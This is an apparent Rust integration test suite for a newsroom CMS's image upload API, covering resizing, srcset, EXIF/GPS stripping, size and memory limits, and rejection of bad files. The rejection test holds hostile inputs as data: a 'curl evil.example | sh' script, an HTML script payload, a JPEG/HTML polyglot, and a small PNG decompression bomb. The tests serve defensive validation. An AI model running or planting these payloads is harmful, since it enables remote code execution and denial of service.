//! Newsroom image uploads (`POST /api/v1/admin/images`) and how stories
//! show them: checked by content, refused with clear codes when oversize,
//! disguised, damaged or a decompression bomb; stripped of metadata; stored
//! at responsive widths, served immutable, and rendered with `srcset`.

mod common;

use std::io::Cursor;
use std::path::Path;
use std::process::{Command, Stdio};

use common::accounts::{api_token, create_user, login_as};
use common::{TestSite, select_attr};
use herald::accounts::Role;
use image::{DynamicImage, ImageFormat, Rgb, RgbImage, Rgba, RgbaImage};
use serde_json::Value;

const BOUNDARY: &str = "herald-test-boundary-7MA4YWxkTrZu0gW";

/// A photo-like picture: gradients with some texture.
fn photo(width: u32, height: u32) -> RgbImage {
    RgbImage::from_fn(width, height, |x, y| {
        let noise = (x.wrapping_mul(2_654_435_761) ^ y.wrapping_mul(40_503)) >> 28;
        Rgb([
            (x * 255 / width) as u8 ^ noise as u8,
            (y * 255 / height) as u8,
            ((x + y) % 256) as u8,
        ])
    })
}

fn encode(pixels: DynamicImage, format: ImageFormat) -> Vec<u8> {
    let mut out = Vec::new();
    pixels
        .write_to(&mut Cursor::new(&mut out), format)
        .expect("encodes");
    out
}

fn jpeg(width: u32, height: u32) -> Vec<u8> {
    encode(
        DynamicImage::ImageRgb8(photo(width, height)),
        ImageFormat::Jpeg,
    )
}

/// A `multipart/form-data` body: text fields, then the file (if any).
fn multipart(fields: &[(&str, &str)], file: Option<(&str, &str, &[u8])>) -> Vec<u8> {
    let mut body = Vec::new();
    for (name, value) in fields {
        body.extend_from_slice(
            format!(
                "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n"
            )
            .as_bytes(),
        );
    }
    if let Some((filename, content_type, bytes)) = file {
        body.extend_from_slice(
            format!(
                "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; \
                 filename=\"{filename}\"\r\nContent-Type: {content_type}\r\n\r\n"
            )
            .as_bytes(),
        );
        body.extend_from_slice(bytes);
        body.extend_from_slice(b"\r\n");
    }
    body.extend_from_slice(format!("--{BOUNDARY}--\r\n").as_bytes());
    body
}

/// A site with a contributor and their API token.
async fn site_with_contributor() -> (TestSite, String) {
    let site = TestSite::start().await;
    create_user(&site, "writer@example.org", Role::Contributor).await;
    let token = api_token(&site, "writer@example.org").await;
    (site, token)
}

/// Uploads as multipart; the status and the JSON answer.
async fn upload_form(
    site: &TestSite,
    token: &str,
    fields: &[(&str, &str)],
    file: Option<(&str, &str, &[u8])>,
) -> (u16, Value) {
    let response = site
        .client
        .post(format!("{}/api/v1/admin/images", site.base))
        .bearer_auth(token)
        .header(
            "content-type",
            format!("multipart/form-data; boundary={BOUNDARY}"),
        )
        .body(multipart(fields, file))
        .send()
        .await
        .expect("request");
    answer(response).await
}

/// Uploads a raw body with `alt` and `credit` in `query`.
async fn upload_raw(
    site: &TestSite,
    token: &str,
    content_type: &str,
    query: &str,
    bytes: Vec<u8>,
) -> (u16, Value) {
    let response = site
        .client
        .post(format!("{}/api/v1/admin/images?{query}", site.base))
        .bearer_auth(token)
        .header("content-type", content_type)
        .body(bytes)
        .send()
        .await
        .expect("request");
    answer(response).await
}

async fn answer(response: reqwest::Response) -> (u16, Value) {
    let status = response.status().as_u16();
    let text = response.text().await.expect("body");
    let json = serde_json::from_str(&text).unwrap_or_else(|_| panic!("not JSON: {text}"));
    (status, json)
}

fn error_code(json: &Value) -> &str {
    json["error"]["code"].as_str().unwrap_or("")
}

fn widths(json: &Value) -> Vec<u64> {
    json["variants"]
        .as_array()
        .expect("variants")
        .iter()
        .map(|v| v["width"].as_u64().expect("width"))
        .collect()
}

fn variant_srcs(json: &Value) -> Vec<String> {
    json["variants"]
        .as_array()
        .expect("variants")
        .iter()
        .map(|v| v["src"].as_str().expect("src").to_owned())
        .collect()
}

/// Fetches a stored image: its content type, cache policy and bytes.
async fn fetch(site: &TestSite, src: &str) -> (String, String, Vec<u8>) {
    let response = site.get(src).await;
    assert_eq!(response.status().as_u16(), 200, "{src}");
    let header = |name: &str| {
        response.headers()[name]
            .to_str()
            .expect("ascii header")
            .to_owned()
    };
    let (content_type, cache) = (header("content-type"), header("cache-control"));
    let bytes = response.bytes().await.expect("body").to_vec();
    (content_type, cache, bytes)
}

#[tokio::test]
async fn uploads_are_stored_at_responsive_widths_and_pages_use_srcset() {
    let (site, token) = site_with_contributor().await;

    let (status, photo_answer) = upload_form(
        &site,
        &token,
        &[
            ("alt", "Boats in the harbour at dawn"),
            ("credit", "Mara Lind"),
        ],
        Some(("harbour.jpg", "image/jpeg", &jpeg(2400, 1350))),
    )
    .await;
    assert_eq!(status, 201, "{photo_answer}");
    assert_eq!(widths(&photo_answer), [320, 640, 960, 1280, 1920]);
    assert_eq!(
        (&photo_answer["width"], &photo_answer["height"]),
        (&Value::from(1920), &Value::from(1080))
    );
    assert_eq!(photo_answer["alt"], "Boats in the harbour at dawn");
    assert_eq!(photo_answer["credit"], "Mara Lind");
    let src = photo_answer["src"].as_str().expect("src").to_owned();
    assert_eq!(variant_srcs(&photo_answer).last(), Some(&src));
    for (variant, width) in variant_srcs(&photo_answer)
        .iter()
        .zip(widths(&photo_answer))
    {
        let (content_type, cache, bytes) = fetch(&site, variant).await;
        assert_eq!(content_type, "image/jpeg");
        assert_eq!(cache, "public, max-age=31536000, immutable");
        let decoded = image::load_from_memory(&bytes).expect("a real image");
        assert_eq!(u64::from(decoded.width()), width);
    }

    // A PNG with transparency stays PNG; sent raw, text in the query.
    let logo = RgbaImage::from_fn(500, 250, |x, _| Rgba([20, 90, 200, (x % 256) as u8]));
    let (status, png_answer) = upload_raw(
        &site,
        &token,
        "image/png",
        "alt=The%20club%27s%20crest",
        encode(DynamicImage::ImageRgba8(logo), ImageFormat::Png),
    )
    .await;
    assert_eq!(status, 201, "{png_answer}");
    assert_eq!(widths(&png_answer), [320, 500]);
    let (content_type, _, _) = fetch(&site, png_answer["src"].as_str().expect("src")).await;
    assert_eq!(content_type, "image/png");

    // A WebP is re-encoded as JPEG (the encoder at hand is lossless-only).
    let webp = encode(DynamicImage::ImageRgb8(photo(1000, 600)), ImageFormat::WebP);
    let (status, webp_answer) =
        upload_raw(&site, &token, "image/webp", "alt=A%20field", webp).await;
    assert_eq!(status, 201, "{webp_answer}");
    assert_eq!(widths(&webp_answer), [320, 640, 960, 1000]);
    let (content_type, _, _) = fetch(&site, webp_answer["src"].as_str().expect("src")).await;
    assert_eq!(content_type, "image/jpeg");

    // A story names the upload by its src; its page and the home page
    // offer every width, and state the size so nothing shifts.
    site.publish(&format!(
        r#"{{"slug": "dawn-harbour", "headline": "Dawn at the harbour", "body_markdown": "Boats.",
            "image": {{"url": "{src}", "alt": "Boats in the harbour at dawn", "credit": "Mara Lind"}}}}"#
    ))
    .await;
    let expected_srcset = variant_srcs(&photo_answer)
        .iter()
        .zip(widths(&photo_answer))
        .map(|(src, width)| format!("{src} {width}w"))
        .collect::<Vec<_>>()
        .join(", ");
    let (status, story) = site.text("/stories/dawn-harbour").await;
    assert_eq!(status, 200);
    let img = ".featured-image img";
    assert_eq!(select_attr(&story, img, "src"), [src.as_str()]);
    assert_eq!(
        select_attr(&story, img, "srcset"),
        [expected_srcset.as_str()]
    );
    assert_eq!(select_attr(&story, img, "width"), ["1920"]);
    assert_eq!(select_attr(&story, img, "height"), ["1080"]);
    assert_eq!(select_attr(&story, img, "sizes").len(), 1);
    // On the home page it is the lead story (the newest), with every width too.
    let (_, home) = site.text("/").await;
    assert_eq!(
        select_attr(&home, ".lead-image", "srcset"),
        [expected_srcset]
    );
    assert_eq!(select_attr(&home, ".lead-image", "width"), ["1920"]);
    assert_eq!(select_attr(&home, ".lead-image", "sizes").len(), 1);
}

/// A JPEG with an EXIF block carrying GPS coordinates and a comment, the
/// bytes inserted by hand after the SOI marker.
fn jpeg_with_gps_and_comment(plain: &[u8]) -> Vec<u8> {
    let mut exif = b"Exif\0\0".to_vec();
    // Big-endian TIFF header; IFD0 at 8 with one entry: the GPS IFD at 26.
    exif.extend_from_slice(b"MM\0\x2a\0\0\0\x08");
    exif.extend_from_slice(&[0, 1, 0x88, 0x25, 0, 4, 0, 0, 0, 1, 0, 0, 0, 26, 0, 0, 0, 0]);
    // GPS IFD: latitude reference "N" and latitude (three rationals at 56).
    exif.extend_from_slice(&[0, 2]);
    exif.extend_from_slice(&[0, 1, 0, 2, 0, 0, 0, 2, b'N', 0, 0, 0]);
    exif.extend_from_slice(&[0, 2, 0, 5, 0, 0, 0, 3, 0, 0, 0, 56]);
    exif.extend_from_slice(&[0, 0, 0, 0]);
    exif.extend_from_slice(&GPS_LATITUDE);
    let comment = b"secret: shot from the informant's flat";
    let mut out = plain[..2].to_vec();
    for (marker, payload) in [(0xE1, &exif[..]), (0xFE, &comment[..])] {
        out.extend_from_slice(&[0xFF, marker]);
        out.extend_from_slice(&((payload.len() + 2) as u16).to_be_bytes());
        out.extend_from_slice(payload);
    }
    out.extend_from_slice(&plain[2..]);
    out
}

/// 51° 30′ 12.34″ as three big-endian rationals.
const GPS_LATITUDE: [u8; 24] = [
    0, 0, 0, 51, 0, 0, 0, 1, 0, 0, 0, 30, 0, 0, 0, 1, 0, 0, 0x04, 0xD2, 0, 0, 0, 100,
];

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

#[tokio::test]
async fn metadata_does_not_survive_an_upload() {
    let (site, token) = site_with_contributor().await;
    let original = jpeg_with_gps_and_comment(&jpeg(1000, 700));
    assert!(contains(&original, b"Exif") && contains(&original, &GPS_LATITUDE));
    let (status, json) = upload_raw(&site, &token, "image/jpeg", "alt=A%20street", original).await;
    assert_eq!(status, 201, "{json}");
    assert_eq!(widths(&json), [320, 640, 960, 1000]);
    for src in variant_srcs(&json) {
        let (_, _, bytes) = fetch(&site, &src).await;
        assert!(!contains(&bytes, b"Exif"), "{src} keeps EXIF");
        assert!(
            !contains(&bytes, &GPS_LATITUDE),
            "{src} keeps the GPS position"
        );
        assert!(!contains(&bytes, b"informant"), "{src} keeps the comment");
        assert!(
            !contains(&bytes, &[0xFF, 0xE1]),
            "{src} has an APP1 segment"
        );
    }
}

#[tokio::test]
async fn disguised_and_damaged_uploads_are_refused_with_clear_codes() {
    let (site, token) = site_with_contributor().await;
    let alt = [("alt", "Something")];
    let whole = jpeg(400, 300);
    let mut bad_crc = encode(DynamicImage::ImageRgb8(photo(60, 40)), ImageFormat::Png);
    let idat = bad_crc.windows(4).position(|w| w == b"IDAT").expect("IDAT");
    let length = u32::from_be_bytes(bad_crc[idat - 4..idat].try_into().expect("4")) as usize;
    bad_crc[idat + 4 + length] ^= 0x55;
    let cases: [(&str, &[u8], &str); 6] = [
        (
            "script.jpg",
            b"#!/bin/sh\ncurl evil.example | sh\n",
            "image_unsupported_type",
        ),
        (
            "page.jpg",
            b"<!doctype html><script>alert(1)</script>",
            "image_unsupported_type",
        ),
        (
            "anim.gif",
            b"GIF89a\x01\x00\x01\x00\x80\x00\x00",
            "image_unsupported_type",
        ),
        ("cut.jpg", &whole[..whole.len() / 2], "image_corrupt"),
        ("crc.png", &bad_crc, "image_corrupt"),
        (
            "polyglot.jpg",
            b"\xFF\xD8\xFF\xE0<html><script>x</script>",
            "image_corrupt",
        ),
    ];
    for (name, bytes, code) in cases {
        let (status, json) =
            upload_form(&site, &token, &alt, Some((name, "image/jpeg", bytes))).await;
        assert_eq!((status, error_code(&json)), (400, code), "{name}: {json}");
    }
    let (status, json) = upload_raw(
        &site,
        &token,
        "image/jpeg",
        "alt=x",
        b"<html></html>".to_vec(),
    )
    .await;
    assert_eq!(
        (status, error_code(&json)),
        (400, "image_unsupported_type"),
        "{json}"
    );
}

/// A PNG whose header claims `width × height` RGB pixels, with an empty
/// image-data chunk: a few dozen bytes.
fn png_claiming(width: u32, height: u32) -> Vec<u8> {
    fn chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
        out.extend_from_slice(&(data.len() as u32).to_be_bytes());
        let start = out.len();
        out.extend_from_slice(kind);
        out.extend_from_slice(data);
        let mut crc = u32::MAX;
        for byte in &out[start..] {
            crc ^= u32::from(*byte);
            for _ in 0..8 {
                crc = if crc & 1 == 1 {
                    (crc >> 1) ^ 0xEDB8_8320
                } else {
                    crc >> 1
                };
            }
        }
        out.extend_from_slice(&(!crc).to_be_bytes());
    }
    let mut header = width.to_be_bytes().to_vec();
    header.extend_from_slice(&height.to_be_bytes());
    header.extend_from_slice(&[8, 2, 0, 0, 0]);
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    chunk(&mut png, b"IHDR", &header);
    chunk(
        &mut png,
        b"IDAT",
        &[0x78, 0x9C, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01],
    );
    chunk(&mut png, b"IEND", &[]);
    png
}

#[tokio::test]
async fn a_decompression_bomb_is_refused_from_its_header() {
    let (site, token) = site_with_contributor().await;
    let bomb = png_claiming(20_000, 20_000);
    assert!(bomb.len() < 100);
    let (status, json) = upload_form(
        &site,
        &token,
        &[("alt", "Nothing")],
        Some(("bomb.png", "image/png", &bomb)),
    )
    .await;
    assert_eq!(
        (status, error_code(&json)),
        (400, "image_too_many_pixels"),
        "{json}"
    );
    assert!(
        json["error"]["message"]
            .as_str()
            .unwrap_or("")
            .contains("20000 × 20000")
    );
}

#[tokio::test]
async fn an_upload_needing_more_than_the_memory_budget_is_refused_with_the_limit() {
    let site = TestSite::start_with(|config| config.image_memory_mb = 16).await;
    create_user(&site, "writer@example.org", Role::Contributor).await;
    let token = api_token(&site, "writer@example.org").await;
    // 3 megapixels: far more than 16 MiB to decode and resize, from a
    // file of a few hundred kilobytes.
    let (status, json) = upload_raw(&site, &token, "image/jpeg", "alt=Big", jpeg(2000, 1500)).await;
    assert_eq!(
        (status, error_code(&json)),
        (400, "image_too_large_to_process"),
        "{json}"
    );
    let message = json["error"]["message"].as_str().unwrap_or("");
    assert!(
        message.starts_with("the image needs about ") && message.contains("; the limit is 16 MiB"),
        "{message}"
    );
    // A small one fits the same budget.
    let (status, json) = upload_raw(&site, &token, "image/jpeg", "alt=Small", jpeg(400, 300)).await;
    assert_eq!(status, 201, "{json}");
}

#[tokio::test]
async fn an_oversized_upload_is_refused_with_413() {
    let (site, token) = site_with_contributor().await;
    let mut big = jpeg(64, 64);
    big.resize(10 * 1024 * 1024 + 1, 0);
    let (status, json) = upload_form(
        &site,
        &token,
        &[("alt", "Big")],
        Some(("big.jpg", "image/jpeg", &big)),
    )
    .await;
    assert_eq!(
        (status, error_code(&json)),
        (413, "image_too_large"),
        "{json}"
    );
    let (status, json) = upload_raw(&site, &token, "image/jpeg", "alt=Big", big).await;
    assert_eq!(
        (status, error_code(&json)),
        (413, "image_too_large"),
        "{json}"
    );
}

#[tokio::test]
async fn uploads_need_an_account_alt_text_and_an_image() {
    let (site, token) = site_with_contributor().await;
    let picture = jpeg(200, 100);

    let anonymous = site
        .client
        .post(format!("{}/api/v1/admin/images?alt=x", site.base))
        .header("content-type", "image/jpeg")
        .body(picture.clone())
        .send()
        .await
        .expect("request");
    let (status, json) = answer(anonymous).await;
    assert_eq!(status, 401, "{json}");

    let (status, json) =
        upload_form(&site, &token, &[], Some(("a.jpg", "image/jpeg", &picture))).await;
    assert_eq!((status, error_code(&json)), (400, "alt_required"), "{json}");
    let (status, json) =
        upload_raw(&site, &token, "image/jpeg", "alt=%20%20", picture.clone()).await;
    assert_eq!((status, error_code(&json)), (400, "alt_required"), "{json}");
    let (status, json) = upload_form(&site, &token, &[("alt", "x")], None).await;
    assert_eq!(
        (status, error_code(&json)),
        (400, "file_required"),
        "{json}"
    );
    let (status, json) =
        upload_raw(&site, &token, "application/json", "alt=x", picture.clone()).await;
    assert_eq!(
        (status, error_code(&json)),
        (415, "unsupported_media_type"),
        "{json}"
    );

    // A newsroom session works too, with its CSRF header.
    let editor = login_as(&site, Role::Editor).await;
    let response = editor
        .api(reqwest::Method::POST, "/api/v1/admin/images?alt=A%20chart")
        .header("content-type", "image/jpeg")
        .body(picture)
        .send()
        .await
        .expect("request");
    let (status, json) = answer(response).await;
    assert_eq!(status, 201, "{json}");
}

#[tokio::test]
async fn the_same_upload_twice_is_one_image() {
    let (site, token) = site_with_contributor().await;
    let picture = jpeg(700, 400);
    let (_, first) = upload_raw(&site, &token, "image/jpeg", "alt=First", picture.clone()).await;
    let (status, second) = upload_raw(&site, &token, "image/jpeg", "alt=Second", picture).await;
    assert_eq!(status, 201, "{second}");
    assert_eq!(first["src"], second["src"]);
    assert_eq!(first["variants"], second["variants"]);
    let name = second["src"]
        .as_str()
        .and_then(|s| s.strip_prefix("/media/"))
        .expect("media path");
    let stored = site
        .store
        .image(name)
        .await
        .expect("store")
        .expect("stored");
    assert_eq!(stored.alt, "Second");
    assert_eq!(stored.renditions.len(), 3);
}

fn herald(data: &Path, args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_herald"))
        .arg("--data")
        .arg(data)
        .args(args)
        .env("RUST_LOG", "warn")
        .stdin(Stdio::null())
        .output()
        .expect("herald runs")
}

#[tokio::test]
async fn story_add_gives_imported_photos_renditions_and_checks_media_paths() {
    let site = TestSite::start_sqlite().await;
    let dir = tempfile::tempdir().expect("tmp");
    let original = jpeg_with_gps_and_comment(&jpeg(1500, 1000));
    std::fs::write(dir.path().join("photo.jpeg"), &original).expect("write");
    let story = dir.path().join("story.json");
    std::fs::write(
        &story,
        r#"{"slug": "imported", "headline": "Imported", "body_markdown": "x",
            "image": {"path": "photo.jpeg", "alt": "A photo"}}"#,
    )
    .expect("write");
    let out = herald(
        &site.data_path(),
        &["story", "add", story.to_str().expect("utf8"), "--publish"],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stored = site
        .store
        .story_by_slug("imported")
        .await
        .expect("store")
        .expect("story");
    let src = stored.image.expect("image").src;
    assert!(src.ends_with("-1500x1000.jpg"), "{src}");
    let (_, _, bytes) = fetch(&site, &src).await;
    assert!(!contains(&bytes, &GPS_LATITUDE));
    site.settle().await;
    let (_, page) = site.text("/stories/imported").await;
    let srcset = select_attr(&page, ".featured-image img", "srcset");
    assert_eq!(srcset.len(), 1);
    assert!(
        srcset[0].ends_with(" 1500w") && srcset[0].contains(" 320w,"),
        "{srcset:?}"
    );

    // The command line has the same memory budget (`--image-memory-mb`).
    std::fs::write(dir.path().join("big.jpeg"), jpeg(2000, 1500)).expect("write");
    std::fs::write(
        &story,
        r#"{"slug": "big", "headline": "Big", "body_markdown": "x",
            "image": {"path": "big.jpeg", "alt": "A big photo"}}"#,
    )
    .expect("write");
    let out = herald(
        &site.data_path(),
        &[
            "story",
            "add",
            story.to_str().expect("utf8"),
            "--image-memory-mb",
            "16",
        ],
    );
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("image.path") && err.contains("; the limit is 16 MiB"),
        "{err}"
    );

    // A story may name an uploaded image by its path, but only one that exists.
    std::fs::write(
        &story,
        r#"{"slug": "dangling", "headline": "Dangling", "body_markdown": "x",
            "image": {"url": "/media/0123456789abcdef0123456789abcdef-640x480.jpg", "alt": "Gone"}}"#,
    )
    .expect("write");
    let out = herald(
        &site.data_path(),
        &["story", "add", story.to_str().expect("utf8")],
    );
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("image.url"), "{err}");
    assert!(
        site.store
            .story_by_slug("dangling")
            .await
            .expect("store")
            .is_none()
    );
}

#[tokio::test]
async fn the_upload_route_and_its_codes_are_documented() {
    let site = TestSite::start().await;
    let (status, body) = site.text("/api/v1/openapi.json").await;
    assert_eq!(status, 200);
    let doc: Value = serde_json::from_str(&body).expect("JSON");
    let upload = &doc["paths"]["/api/v1/admin/images"]["post"];
    assert!(upload.is_object(), "POST /api/v1/admin/images undocumented");
    assert!(upload["requestBody"]["content"]["multipart/form-data"].is_object());
    let codes =
        &doc["components"]["schemas"]["Error"]["properties"]["error"]["properties"]["code"]["enum"];
    for code in [
        "image_too_large",
        "image_unsupported_type",
        "image_too_many_pixels",
        "image_too_large_to_process",
        "image_corrupt",
        "alt_required",
        "file_required",
        "unsupported_media_type",
    ] {
        assert!(
            codes
                .as_array()
                .expect("codes")
                .contains(&Value::from(code)),
            "{code} undocumented"
        );
    }
}
